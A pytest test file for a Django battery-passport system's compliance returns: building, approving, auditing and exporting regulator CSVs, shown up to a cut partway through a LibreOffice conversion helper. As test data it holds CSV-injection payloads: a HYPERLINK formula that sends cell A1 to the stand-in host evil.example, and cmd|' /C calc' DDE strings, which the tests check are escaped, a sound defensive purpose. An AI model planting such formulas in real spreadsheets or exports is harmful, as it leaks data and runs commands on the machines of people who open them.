"""Compliance returns: build a return for a period (the EPR figures
and the pack rows behind them, frozen), approve it (supervisor, plant head or
admin; recorded), export it as the regulator's CSV (only approved; checksum
headers; one ``compliance_export`` audit row per export), CSV layouts from a
configurable schema (validated; the CPCB defaults shipped), and CSV injection.

Passports and their events are made through ``passports.services`` (and the
ledger for ``provisioned``, as the factories do), on dates in FY 2025-26.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import importlib
import io
import shutil
import subprocess
from collections.abc import Iterator
from decimal import Decimal, InvalidOperation

import pytest
from django.apps import apps
from django.db import transaction
from django.urls import reverse
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from bpmos import csvsafe
from bpmos.accounts.models import User
from bpmos.errors import Forbidden, InvalidInput
from bpmos.roles import Role
from compliance import returns
from compliance.models import (
    CategoryDeclaration,
    ComplianceReturn,
    CsvSchema,
    ReturnLine,
    ReturnStatus,
)
from elog.models import AuditRecord
from passports import ledger, services
from passports.models import EventKind, Passport
from tests.conftest import PASSWORD
from tests.conftest import api_as as api

pytestmark = pytest.mark.django_db

E = EventKind
FY = "2025-26"
PACKS_SCHEMA = "cpcb-epr-packs"
SUMMARY_SCHEMA = "cpcb-epr-summary"
EVIL_SERIAL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_RECYCLER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def cpcb_schemas(db):
    """The layouts migration 0002 ships (a transactional test elsewhere in the
    run may have flushed them): shipped again when missing."""
    migration = importlib.import_module("compliance.migrations.0002_csv_schemas")
    migration.ship(apps, None)


def pack(actor, serial, *, made, model="PACK-EV", mass="12.500", **extra):
    data = {
        "kind": "pack",
        "chemistry": "LFP",
        "serial": serial,
        "model": model,
        "manufacturer": "BPM Energy",
        "site": "Pune Plant 1",
        "rated_capacity_ah": 100,
        "nominal_voltage_v": 51.2,
        "energy_kwh": 5.12,
        "manufactured_at": made,
        "manufacturer_code": "BPM",
        "plant_code": "P",
        **extra,
    }
    if mass is not None:
        data["mass_kg"] = mass
    return services.passport_register(data=data, actor=actor)


def event(actor, passport, kind, at, **data):
    defaults = {
        E.QA_PASSED: {"test": "EOL-1"},
        E.WAREHOUSED: {"location": "FG-A-01"},
        E.DISPATCHED: {"carrier": "BlueDart"},
        E.DELIVERED: {"customer": "Ather Energy"},
        E.END_OF_LIFE: {"reason": "SoH below 70 %"},
        E.RECYCLED: {"note": "Black mass recovered"},
    }
    services.passport_event_record(
        passport_id=passport.pk,
        kind=kind,
        data=data or defaults.get(kind, {}),
        occurred_at=at,
        actor=actor,
    )


def dispatched(actor, serial, *, day, **kwargs):
    """A pack manufactured in April 2024 and dispatched on ``day`` (noon UTC)."""
    p = pack(actor, serial, made="2024-04-02T08:00:00Z", **kwargs)
    event(actor, p, E.QA_PASSED, "2024-04-03T08:00:00Z")
    ledger.append(
        passport=p.pk,
        kind=E.PROVISIONED,
        data={"bmsFirmware": "2.4.1", "nodeId": 17},
        actor=actor,
    )
    event(actor, p, E.WAREHOUSED, "2024-04-05T08:00:00Z")
    event(actor, p, E.DISPATCHED, f"{day}T12:00:00Z")
    return p


def end_of_life(actor, p, *, day, recycled_day=None, recycler="GreenCycle"):
    event(actor, p, E.DELIVERED, f"{day}T06:00:00Z")
    event(actor, p, E.END_OF_LIFE, f"{day}T12:00:00Z")
    if recycled_day:
        services.passport_event_record(
            passport_id=p.pk,
            kind=E.CUSTODY_TRANSFERRED,
            data={"to": {"kind": "recycler", "name": recycler}},
            occurred_at=f"{recycled_day}T06:00:00Z",
            actor=actor,
        )
        event(actor, p, E.RECYCLED, f"{recycled_day}T12:00:00Z")


def make_plant(boss) -> dict[str, Passport]:
    """FY 2025-26: three EV packs placed (one with a formula for a serial),
    one undeclared pack without a mass placed and collected, and one pack
    placed in FY 2024-25, collected and recycled (by a recycler whose name is
    a formula) in FY 2025-26."""
    CategoryDeclaration.objects.create(model="PACK-EV", category="ev")
    first = dispatched(boss, "BPM-PK-0001", day="2025-06-10")
    evil = dispatched(boss, EVIL_SERIAL, day="2025-07-01", mass="7.250")
    undeclared = dispatched(boss, "BPM-PK-0003", day="2025-08-01", model="PACK-X")
    Passport.objects.filter(pk=undeclared.pk).update(mass_kg=None)
    end_of_life(boss, undeclared, day="2025-09-01")
    old = dispatched(boss, "BPM-PK-0004", day="2024-12-01", mass="20.000")
    end_of_life(
        boss, old, day="2025-10-01", recycled_day="2025-11-01", recycler=EVIL_RECYCLER
    )
    return {"first": first, "evil": evil, "undeclared": undeclared, "old": old}


@pytest.fixture(scope="module")
def shared_plant(django_db_setup, django_db_blocker) -> Iterator[dict]:
    """The supervisor ``sam`` and the plant (``make_plant``: four packs, 26
    service calls, each audited and some on the ledger), made once for the
    module inside a transaction rolled back after its last test, as
    ``demo_plant`` is (tests/conftest.py). Each test runs in its own savepoint
    inside it, so what a test changes (a pack dispatched, a mass, a return, an
    audit row) is gone before the next; only primary keys leave this fixture,
    and each test loads its own instances (``boss``, ``plant``). A test that
    asks for neither may run before or after it (random order): none of them
    reads passports. No transactional test may be in this module (a flush
    cannot run inside the open transaction): the races are in
    tests/test_compliance_returns_races.py."""
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            boss = User(username="sam", role=Role.SUPERVISOR)
            boss.set_password(PASSWORD)
            boss.apply_role_flags()
            boss.save()
            packs = make_plant(boss)
            yield {"boss": boss.pk, "packs": {k: p.pk for k, p in packs.items()}}
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


@pytest.fixture
def boss(shared_plant, db) -> User:
    return User.objects.get(pk=shared_plant["boss"])


@pytest.fixture
def plant(shared_plant, db) -> dict[str, Passport]:
    """The shared plant's packs (``make_plant``), loaded for this test."""
    return {k: Passport.objects.get(pk=pk) for k, pk in shared_plant["packs"].items()}


def build(user, body=None):
    return api(user).post("/api/compliance/returns", body or {"fy": FY}, format="json")


def approve(user, return_id):
    return api(user).post(f"/api/compliance/returns/{return_id}/approve")


def export(user, body=None):
    return api(user).post("/api/compliance/export", body or {}, format="json")


def parsed(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def exports() -> list[AuditRecord]:
    return list(AuditRecord.objects.filter(action="compliance_export").order_by("seq"))


@pytest.fixture
def approved(plant, boss, make_user):
    built = build(boss)
    assert built.status_code == 201, built.content
    head = make_user(Role.PLANT_HEAD, username="priya")
    answer = approve(head, built.json()["id"])
    assert answer.status_code == 200, answer.content
    return ComplianceReturn.objects.get(pk=built.json()["id"])


# --- build ------------------------------------------------------------------------


def test_build_freezes_figures_and_rows(plant, boss):
    answer = build(boss, {"fy": FY, "note": "Annual return"})
    assert answer.status_code == 201, answer.content
    body = answer.json()
    assert body["status"] == "draft"
    assert body["financialYear"] == FY
    assert (body["periodStart"], body["periodEnd"]) == ("2025-04-01", "2026-03-31")
    assert body["builtBy"] == "sam"
    assert body["approvedBy"] is None
    assert body["approvedAt"] is None
    assert body["rowCount"] == 6  # 3 placed, 2 collected, 1 recycled
    assert body["exportCount"] == 0
    assert body["note"] == "Annual return"
    ev = next(c for c in body["figures"]["categories"] if c["category"] == "ev")
    assert ev["placedOnMarket"] == {"count": 2, "massKg": 19.75, "missingMassCount": 0}
    undeclared = next(c for c in body["figures"]["categories"] if c["category"] is None)
    assert undeclared["placedOnMarket"]["missingMassCount"] == 1

    lines = api(boss).get(f"/api/compliance/returns/{body['id']}/lines").json()
    assert lines["count"] == 6
    assert [(r["event"], r["serial"]) for r in lines["results"]] == [
        ("placed", "BPM-PK-0001"),
        ("placed", EVIL_SERIAL),
        ("placed", "BPM-PK-0003"),
        ("collected", "BPM-PK-0003"),
        ("collected", "BPM-PK-0004"),
        ("recycled", "BPM-PK-0004"),
    ]
    assert lines["results"][0]["massKg"] == 12.5
    assert lines["results"][2]["massKg"] is None
    assert lines["results"][2]["category"] is None

    rows = [
        returns._line_row(**row)
        for row in ReturnLine.objects.filter(ret_id=body["id"])
        .order_by("id")
        .values(
            "passport_id",
            "event",
            "occurred_at",
            "serial",
            "bpan",
            "model",
            "category",
            "chemistry",
            "mass_kg",
            "custodian",
        )
    ]
    assert body["contentHash"] == returns.content_hash(body["figures"], rows)

    audit = AuditRecord.objects.get(action="compliance_return_build")
    assert (audit.actor_id, audit.actor_role) == (boss.pk, Role.SUPERVISOR)
    assert audit.after["rowCount"] == 6
    assert audit.after["contentHash"] == body["contentHash"]

    # Frozen: a pack dispatched in the period afterwards is not in it, but
    # is in the next return built.
    dispatched(boss, "BPM-PK-0005", day="2025-12-01")
    again = api(boss).get(f"/api/compliance/returns/{body['id']}").json()
    assert again["rowCount"] == 6
    assert again["figures"] == body["figures"]
    assert build(boss).json()["rowCount"] == 7


def test_build_from_to_period(plant, boss):
    answer = build(boss, {"from": "2025-06-01", "to": "2025-06-30"})
    assert answer.status_code == 201, answer.content
    body = answer.json()
    assert body["financialYear"] == ""
    assert body["rowCount"] == 1
    # Its rows still name the one FY the month lies in; a period across two
    # financial years names none.
    ret = ComplianceReturn.objects.get(pk=body["id"])
    assert returns.row_financial_year(ret) == "2025-26"
    csv_rows = parsed(returns.return_csv(ret, returns.schema_get(slug=None)))
    assert csv_rows[1][csv_rows[0].index("Financial Year")] == "2025-26"
    across = build(boss, {"from": "2025-03-01", "to": "2025-04-30"}).json()
    ret = ComplianceReturn.objects.get(pk=across["id"])
    assert returns.row_financial_year(ret) == ""


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"fy": "2025-27"}, "fy"),
        ({"fy": "25-26"}, "fy"),
        ({"fy": FY, "from": "2025-04-01", "to": "2025-05-01"}, "fy"),
        ({"from": "2025-04-01"}, "to"),
        ({"to": "2025-04-01"}, "from"),
        ({}, "fy"),
        ({"from": "2025-05-01", "to": "2025-04-01"}, "to"),
        ({"from": "1999-12-31", "to": "2025-04-01"}, "from"),
        ({"from": "2025-13-01", "to": "2025-12-01"}, "from"),
        ({"fy": 2025}, "fy"),
        ({"fy": FY, "note": "x" * 301}, "note"),
        ({"fy": None}, "fy"),
        ({"fy": FY, "note": None}, "note"),
        ({"from": 20250401, "to": "2025-05-01"}, "from"),
        ([FY], "non_field_errors"),
    ],
)
def test_build_refuses_bad_periods(boss, body, field):
    answer = api(boss).post("/api/compliance/returns", body, format="json")
    assert answer.status_code == 400, answer.content
    assert field in answer.json()["details"]
    assert not ComplianceReturn.objects.exists()


@pytest.mark.parametrize("role", [Role.OPERATOR, Role.PLANNER, Role.AUDITOR])
def test_only_supervisors_build(make_user, role):
    assert build(make_user(role)).status_code == 403
    assert not ComplianceReturn.objects.exists()


# --- approve ----------------------------------------------------------------------


def test_approve_records_who_when_and_role(plant, boss, make_user):
    ret_id = build(boss).json()["id"]
    admin = make_user(Role.ADMIN, username="ada")
    answer = approve(admin, ret_id)
    assert answer.status_code == 200, answer.content
    body = answer.json()
    assert body["status"] == "approved"
    assert body["approvedBy"] == "ada"
    assert body["approvedRole"] == "admin"
    assert body["approvedAt"].endswith("Z")
    audit = AuditRecord.objects.get(action="compliance_return_approve")
    assert (audit.actor_id, audit.actor_role, audit.target_id) == (
        admin.pk,
        "admin",
        str(ret_id),
    )
    assert audit.before == {"status": "draft"}
    assert audit.after["status"] == "approved"

    again = approve(boss, ret_id)
    assert again.status_code == 409
    assert again.json()["code"] == "illegal_transition"
    assert ComplianceReturn.objects.get(pk=ret_id).approved_by_id == admin.pk


@pytest.mark.parametrize("role", [Role.OPERATOR, Role.PLANNER, Role.AUDITOR])
def test_others_cannot_approve(plant, boss, make_user, role):
    ret_id = build(boss).json()["id"]
    assert approve(make_user(role), ret_id).status_code == 403
    assert ComplianceReturn.objects.get(pk=ret_id).status == ReturnStatus.DRAFT


def test_approve_service_refuses_an_operator(plant, boss, make_user):
    """The admin and the scheduled mail call the service directly: the rule is
    the service's too."""
    ret_id = build(boss).json()["id"]
    with pytest.raises(Forbidden):
        returns.return_approve(return_id=ret_id, actor=make_user(Role.OPERATOR))
    assert ComplianceReturn.objects.get(pk=ret_id).status == ReturnStatus.DRAFT


def test_approve_unknown_return_is_404(boss):
    assert approve(boss, 987654).status_code == 404


# --- export -----------------------------------------------------------------------


def test_approval_then_export(approved, boss):
    answer = export(boss, {"returnId": approved.pk, "schema": PACKS_SCHEMA})
    assert answer.status_code == 200, answer.content
    content = answer.content
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == (
        f'attachment; filename="bpmos-return-{approved.pk}-{FY}-{PACKS_SCHEMA}.csv"'
    )
    assert answer["X-Checksum-SHA256"] == hashlib.sha256(content).hexdigest()
    digest = base64.b64encode(hashlib.sha256(content).digest()).decode()
    assert answer["Repr-Digest"] == f"sha-256=:{digest}:"
    assert not content.startswith(b"\xef\xbb\xbf")  # no BOM
    assert content.endswith(b"\r\n")

    table = parsed(content)
    schema = CsvSchema.objects.get(slug=PACKS_SCHEMA)
    assert table[0] == [column["header"] for column in schema.columns]
    assert len(table) == 1 + 6
    by_header = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [row["Battery Serial Number"] for row in by_header] == [
        "BPM-PK-0001",
        "'" + EVIL_SERIAL,  # escaped: a spreadsheet shows it as text
        "BPM-PK-0003",
        "BPM-PK-0003",
        "BPM-PK-0004",
        "BPM-PK-0004",
    ]
    first = by_header[0]
    assert first["Financial Year"] == FY
    assert first["Transaction"] == "Placed on the market (first dispatch)"
    assert first["Date"] == "2025-06-10"
    assert first["Battery Category"] == "Electric vehicle"
    assert first["Weight (kg)"] == "12.500"
    bpan = approved.lines.order_by("id").first().bpan
    assert bpan
    assert first["BPAN"] == bpan
    assert first["Passport ID"] == str(Passport.objects.get(serial="BPM-PK-0001").uuid)
    assert by_header[2]["Battery Category"] == "Undeclared"
    assert by_header[2]["Weight (kg)"] == ""
    assert by_header[5]["Custodian"] == "'" + EVIL_RECYCLER

    approved.refresh_from_db()
    assert approved.export_count == 1
    assert approved.last_exported_at is not None
    assert export(boss, {"returnId": approved.pk}).status_code == 200
    approved.refresh_from_db()
    assert approved.export_count == 2
    assert len(exports()) == 2


def test_export_summary_schema(approved, boss):
    answer = export(boss, {"returnId": approved.pk, "schema": SUMMARY_SCHEMA})
    assert answer.status_code == 200, answer.content
    table = parsed(answer.content)
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    # Every BWMR category, then "Undeclared" (a model had no declaration).
    assert [row["Battery Category"] for row in rows] == [
        "Portable",
        "Automotive",
        "Industrial",
        "Electric vehicle",
        "Undeclared",
    ]
    ev = rows[3]
    assert ev["Financial Year"] == FY
    assert ev["Quantity Placed in Market (Nos)"] == "2"
    assert ev["Quantity Placed in Market (kg)"] == "19.750"
    assert ev["Quantity Collected (kg)"] == "20.000"
    assert ev["Quantity Recycled (kg)"] == "20.000"
    assert rows[4]["Packs Placed Without Weight (Nos)"] == "1"
    assert answer["X-Row-Count"] == "5"
    assert exports()[0].after["rows"] == 5


def test_export_audit_row(approved, make_user):
    admin = make_user(Role.ADMIN, username="ada")
    answer = export(admin, {"returnId": approved.pk, "schema": PACKS_SCHEMA})
    assert answer.status_code == 200
    [row] = exports()
    assert row.actor_id == admin.pk
    assert row.actor_username == "ada"
    assert row.actor_role == "admin"
    assert row.target_type == "compliance.compliancereturn"
    assert row.target_id == str(approved.pk)
    assert row.source == "api"
    assert row.after == {
        "returnId": approved.pk,
        "schema": PACKS_SCHEMA,
        "schemaLevel": "pack",
        "schemaDefault": False,
        "returnChosen": "given",
        "financialYear": FY,
        "periodStart": "2025-04-01",
        "periodEnd": "2026-03-31",
        "rows": 6,
        "bytes": len(answer.content),
        "sha256": answer["X-Checksum-SHA256"],
        "filename": f"bpmos-return-{approved.pk}-{FY}-{PACKS_SCHEMA}.csv",
        "contentHash": approved.content_hash,
        "exportCount": 1,
        "source": "api",
    }


def test_export_without_approval_is_409(plant, boss):
    none_yet = export(boss)
    assert none_yet.status_code == 409
    assert none_yet.json()["code"] == "no_approved_return"
    assert "approve" in none_yet.json()["error"]

    draft = build(boss).json()["id"]
    answer = export(boss, {"returnId": draft})
    assert answer.status_code == 409
    assert answer.json()["code"] == "return_not_approved"
    assert answer.json()["details"] == {"returnId": draft, "status": "draft"}
    assert answer["Content-Type"].startswith("application/json")
    # Still "none approved" with a draft around.
    assert export(boss).json()["code"] == "no_approved_return"
    assert exports() == []
    assert ComplianceReturn.objects.get(pk=draft).export_count == 0


def test_export_without_return_id_takes_the_latest_approved(approved, boss):
    newer = build(boss).json()["id"]
    approve(boss, newer)
    build(boss)  # a later draft is not taken
    answer = export(boss)
    assert answer.status_code == 200
    assert f"bpmos-return-{newer}-" in answer["Content-Disposition"]
    [row] = exports()
    assert row.after["returnChosen"] == "latest_approved"
    assert row.after["schema"] == PACKS_SCHEMA  # the pack-level default
    assert row.after["schemaDefault"] is True


ALLOWED = [Role.SUPERVISOR, Role.PLANT_HEAD, Role.ADMIN]
REFUSED = [Role.OPERATOR, Role.PLANNER, Role.AUDITOR]


@pytest.mark.parametrize("role", ALLOWED + REFUSED)
def test_every_role_on_export(approved, make_user, role):
    user = make_user(role)
    answer = export(user, {"returnId": approved.pk})
    if role in ALLOWED:
        assert answer.status_code == 200, answer.content
        [row] = exports()
        assert (row.actor_id, row.actor_role) == (user.pk, role)
    else:
        assert answer.status_code == 403
        assert answer.json()["code"] == "permission_denied"
        assert exports() == []


def test_export_without_token_is_401(approved):
    answer = APIClient().post("/api/compliance/export", {}, format="json")
    assert answer.status_code == 401
    assert exports() == []


def test_export_with_accept_text_csv(approved, boss):
    client = api(boss)
    ok = client.post(
        "/api/compliance/export", {}, format="json", HTTP_ACCEPT="text/csv"
    )
    assert ok.status_code == 200
    assert ok["Content-Type"] == "text/csv; charset=utf-8"
    refused = client.post(
        "/api/compliance/export",
        {"returnId": 987654},
        format="json",
        HTTP_ACCEPT="text/csv",
    )
    assert refused.status_code == 404
    assert refused.json()["code"] == "not_found"  # errors stay JSON


@pytest.mark.parametrize("query", ["", "?format=", "?format=json", "?format=xml"])
def test_export_is_the_csv_whatever_the_format_or_accept_asked(approved, boss, query):
    """The route answers with its CSV; ``format`` is not one of its parameters
    (nothing to choose), so the schema names none, and no Accept is refused."""
    path = f"/api/compliance/export{query}"
    answer = api(boss).post(path, {}, format="json", HTTP_ACCEPT="application/pdf")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    document = SchemaGenerator().get_schema(request=None, public=True)
    operation = document["paths"]["/api/compliance/export/"]["post"]
    assert "format" not in {p["name"] for p in operation.get("parameters", [])}


@pytest.mark.parametrize(
    ("body", "status", "field"),
    [
        ({"returnId": "1"}, 400, "returnId"),
        ({"returnId": True}, 400, "returnId"),
        ({"returnId": 0}, 400, "returnId"),
        ({"returnId": 10**30}, 400, "returnId"),
        ({"schema": "no-such-layout"}, 400, "schema"),
        ({"schema": "bad slug!"}, 400, "schema"),
        ({"returnId": 987654}, 404, None),
        ({"returnId": None}, 400, "returnId"),
        ({"schema": ""}, 400, "schema"),
        ([1], 400, "non_field_errors"),
    ],
)
def test_export_bad_bodies(approved, boss, body, status, field):
    answer = export(boss, body)
    assert answer.status_code == status, answer.content
    if field:
        assert field in answer.json()["details"]
    assert exports() == []


def test_export_refuses_altered_rows(approved, boss):
    line = approved.lines.order_by("id").first()
    ReturnLine.objects.filter(pk=line.pk).update(serial="BPM-PK-9999")
    answer = export(boss, {"returnId": approved.pk})
    assert answer.status_code == 409
    assert answer.json()["code"] == "return_altered"
    assert exports() == []


def test_export_with_no_default_schema_is_409(approved, boss):
    CsvSchema.objects.filter(level="pack").update(is_default=False)
    answer = export(boss, {"returnId": approved.pk})
    assert answer.status_code == 409
    assert answer.json()["code"] == "no_default_schema"


# --- reads ------------------------------------------------------------------------


def test_list_filters_and_detail(approved, boss, make_user):
    build(boss, {"from": "2025-06-01", "to": "2025-06-30"})
    auditor = api(make_user(Role.AUDITOR))
    everything = auditor.get("/api/compliance/returns").json()
    assert everything["count"] == 2
    assert "figures" not in everything["results"][0]
    only = auditor.get("/api/compliance/returns", {"status": "approved"}).json()
    assert [r["id"] for r in only["results"]] == [approved.pk]
    by_fy = auditor.get("/api/compliance/returns", {"financialYear": FY}).json()
    assert [r["id"] for r in by_fy["results"]] == [approved.pk]
    for query in ({"status": "bogus"}, {"financialYear": "2025"}):
        answer = auditor.get("/api/compliance/returns", query)
        assert answer.status_code == 400, query
    detail = auditor.get(f"/api/compliance/returns/{approved.pk}").json()
    assert detail["approvedBy"] == "priya"
    assert detail["approvedRole"] == "plant-head"
    lines = auditor.get(
        f"/api/compliance/returns/{approved.pk}/lines", {"event": "collected"}
    ).json()
    assert [r["serial"] for r in lines["results"]] == ["BPM-PK-0003", "BPM-PK-0004"]
    assert auditor.get("/api/compliance/returns/987654").status_code == 404
    assert auditor.get("/api/compliance/returns/987654/lines").status_code == 404
    operator = api(make_user(Role.OPERATOR))
    assert operator.get("/api/compliance/returns").status_code == 403
    assert operator.get(f"/api/compliance/returns/{approved.pk}").status_code == 403


def test_schemas_listed(make_user):
    answer = api(make_user(Role.AUDITOR)).get("/api/compliance/schemas")
    assert answer.status_code == 200
    body = answer.json()
    assert [s["slug"] for s in body["results"]] == [PACKS_SCHEMA, SUMMARY_SCHEMA]
    assert all(s["isDefault"] for s in body["results"])
    assert body["results"][0]["columns"][0] == {
        "header": "Financial Year",
        "field": "financialYear",
    }
    planner = api(make_user(Role.PLANNER))
    assert planner.get("/api/compliance/schemas").status_code == 403


# --- schemas ----------------------------------------------------------------------


def test_shipped_schemas_name_known_fields():
    for schema in CsvSchema.objects.all():
        assert returns.schema_columns_check(schema.level, schema.columns) == (
            schema.columns
        )


@pytest.mark.parametrize(
    ("level", "columns", "needle"),
    [
        ("pack", [{"header": "X", "field": "nope"}], "unknown field 'nope'"),
        ("summary", [{"header": "S", "field": "serial"}], "unknown field 'serial'"),
        ("pack", [], "non-empty"),
        ("pack", "serial", "non-empty"),
        ("pack", [{"header": "", "field": "serial"}], "empty"),
        ("pack", [{"header": "S", "field": "serial", "x": 1}], "exactly"),
        (
            "pack",
            [{"header": "S", "field": "serial"}, {"header": "s", "field": "bpan"}],
            "repeats",
        ),
    ],
)
def test_schema_validation_refuses(level, columns, needle):
    with pytest.raises(InvalidInput) as caught:
        returns.schema_columns_check(level, columns)
    assert needle in " ".join(caught.value.details["columns"])


def test_schema_validation_refuses_unknown_level():
    with pytest.raises(InvalidInput) as caught:
        returns.schema_columns_check("cell", [{"header": "S", "field": "serial"}])
    assert "level" in caught.value.details


# --- admin ------------------------------------------------------------------------


def _schema_form(schema: CsvSchema, columns: str, **extra) -> dict:
    return {
        "slug": schema.slug,
        "name": schema.name,
        "level": schema.level,
        "columns": columns,
        "is_default": "on" if schema.is_default else "",
        **extra,
    }


def test_admin_schema_form_refuses_unknown_fields(client, make_user):
    client.force_login(make_user(Role.ADMIN))
    schema = CsvSchema.objects.get(slug=PACKS_SCHEMA)
    url = reverse("admin:compliance_csvschema_change", args=[schema.pk])
    assert client.get(url).status_code == 200
    bad = client.post(url, _schema_form(schema, '[{"header": "X", "field": "nope"}]'))
    assert bad.status_code == 200  # the form again, with the error
    assert "unknown field" in bad.content.decode()
    schema.refresh_from_db()
    assert schema.columns[0]["field"] == "financialYear"

    good = client.post(
        url, _schema_form(schema, '[{"header": " Serial ", "field": "serial"}]')
    )
    assert good.status_code == 302
    schema.refresh_from_db()
    assert schema.columns == [{"header": "Serial", "field": "serial"}]
    assert AuditRecord.objects.filter(
        action="compliance.csvschema.admin_changed"
    ).exists()


def test_admin_refuses_a_second_default(client, make_user):
    client.force_login(make_user(Role.ADMIN))
    add = client.post(
        reverse("admin:compliance_csvschema_add"),
        {
            "slug": "wims-packs",
            "name": "WIMS",
            "level": "pack",
            "columns": '[{"header": "Serial", "field": "serial"}]',
            "is_default": "on",
        },
    )
    assert add.status_code == 200
    assert "is the default" in add.content.decode()
    assert not CsvSchema.objects.filter(slug="wims-packs").exists()


def test_admin_approve_action(plant, boss, client, make_user):
    ret_id = build(boss).json()["id"]
    changelist = reverse("admin:compliance_compliancereturn_changelist")
    client.force_login(make_user(Role.AUDITOR))
    page = client.get(changelist)
    assert page.status_code == 200
    # An auditor's only action is the back-office's read one (the CSV export).
    choices = page.context["action_form"].fields["action"].choices
    assert [value for value, _ in choices if value] == ["export_csv"]
    client.post(changelist, {"action": "approve", "_selected_action": [ret_id]})
    assert ComplianceReturn.objects.get(pk=ret_id).status == ReturnStatus.DRAFT

    admin = make_user(Role.ADMIN, username="ada")
    client.force_login(admin)
    detail = reverse("admin:compliance_compliancereturn_change", args=[ret_id])
    assert client.get(detail).status_code == 200
    actions = client.get(changelist).context["action_form"].fields["action"]
    assert "approve" in dict(actions.choices)
    client.post(changelist, {"action": "approve", "_selected_action": [ret_id]})
    ret = ComplianceReturn.objects.get(pk=ret_id)
    assert (ret.status, ret.approved_by_id, ret.approved_role) == (
        ReturnStatus.APPROVED,
        admin.pk,
        "admin",
    )


# --- CSV injection and the writer -------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1+1", "'\0=1+1"),
        (
            '=HYPERLINK("http://evil.example","x")',
            '\'=HYPERLINK("http://evil.example","x")',
        ),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        # A negative number stays a number (a spreadsheet evaluates nothing).
        ("-5", "-5"),
        ("-12.250", "-12.250"),
        (Decimal("-5.250"), "-5.250"),
        (-5, "-5"),
        # ... but only exactly a number.
        ("-5e3", "'-5e3"),
        ("-", "'-"),
        ("+5", "'+5"),
        # The plant's own serials, BPANs and models: never touched.
        ("BPM-PK-0001", "BPM-PK-0001"),
        ("P-000001", "P-000001"),
        ("PACK-LFP", "PACK-LFP"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (Decimal("12.500"), "12.500"),
    ],
)
def test_escape_cell(value, cell):
    assert csvsafe.escape_cell(value) == cell


def test_csv_round_trips_through_the_csv_reader():
    header = ["Serial", "Note", "=Header"]
    rows = [
        ["BPM-PK-0001", "plain", "x"],
        ["BPM-PK-0002", 'comma, "quotes" and\r\nnew lines', "-5"],
        [EVIL_SERIAL, EVIL_RECYCLER, "\tTabbed"],
        ["ಬ್ಯಾಟರಿ ₹ Ω", "", None],
        ["-5", "+5", "@x"],
    ]
    content = csvsafe.csv_bytes(header, rows)
    assert not content.startswith(b"\xef\xbb\xbf")
    table = parsed(content)
    expected = [[csvsafe.escape_cell(v) for v in row] for row in [header, *rows]]
    assert table == expected
    # What was not dangerous comes back exactly as given.
    assert table[2][1] == 'comma, "quotes" and\r\nnew lines'
    assert table[4][0] == "ಬ್ಯಾಟರಿ ₹ Ω"
    # A dangerous cell: the quote, then exactly what was given.
    assert table[3][0] == "'" + EVIL_SERIAL
    assert table[0][2] == "'=Header"
    # No cell that a spreadsheet would evaluate.
    for row in table:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert (
                not value.startswith("-")
                or value.lstrip("-").replace(".", "", 1).isdigit()
            )


def test_csv_lines_stream_the_same_bytes():
    rows = [["a", "=b"], ["c,d", None]]
    chunks = list(csvsafe.csv_lines(["x", "y"], iter(rows)))
    assert len(chunks) == 3
    assert b"".join(chunks) == csvsafe.csv_bytes(["x", "y"], rows)
    assert chunks[1] == b"a,'=b\r\n"


def test_csv_bytes_with_bom_for_excel():
    assert csvsafe.csv_bytes(["a"], [["b"]], bom=True) == b"\xef\xbb\xbfa\r\nb\r\n"


def test_return_csv_is_the_schema_layout(approved):
    schema = CsvSchema.objects.create(
        slug="two-columns",
        name="Two",
        level="pack",
        columns=[
            {"header": "Weight", "field": "massKg"},
            {"header": "=Serial", "field": "serial"},
        ],
    )
    table = parsed(returns.return_csv(approved, schema))
    assert table[0] == ["Weight", "'=Serial"]
    assert table[1] == ["12.500", "BPM-PK-0001"]
    assert table[2] == ["7.250", "'" + EVIL_SERIAL]
    assert len(table) == 7


# --- the CSV in a real spreadsheet ---------------------------------------------
# LibreOffice Calc (headless) opens the export: every cell arrives as the text or
# number it was, and none becomes a formula. LibreOffice is a system package
# (Debian's libreoffice-calc-nogui): .ci/run installs it, so CI always runs these;
# without soffice they skip and the summary says so. A control converts the same
# rows written WITHOUT escaping and finds the formulas, so the check can fail.

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_spreadsheet = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed; .ci/run installs it",
)

# What a person double-clicking the file gets: comma, double quote, UTF-8,
# from line 1, formulas evaluated (Calc's default since 7.x).
CSV_IMPORT = "CSV:44,34,76,1"


@pytest.fixture(scope="module")
def lo_profile(tmp_path_factory):
    """One LibreOffice user profile for the module's conversions: making it is
    most of soffice's first start."""
    return tmp_path_factory.mktemp("lo-profile")


def as_spreadsheets(tmp_path, profile, files: dict[str, bytes]) -> dict:
    """Each CSV (name -> content) converted by LibreOffice to .xlsx, in one
    run of soffice, and read back with openpyxl: name -> its sheet."""
    sources = []
    for name, content in files.items():
        source = tmp_path / f"{name}.csv"
        source.write_bytes(content)
        sources.append(str(source))
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            f"--infilter={CSV_IMPORT}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            *sources,
        ],
        check=True,
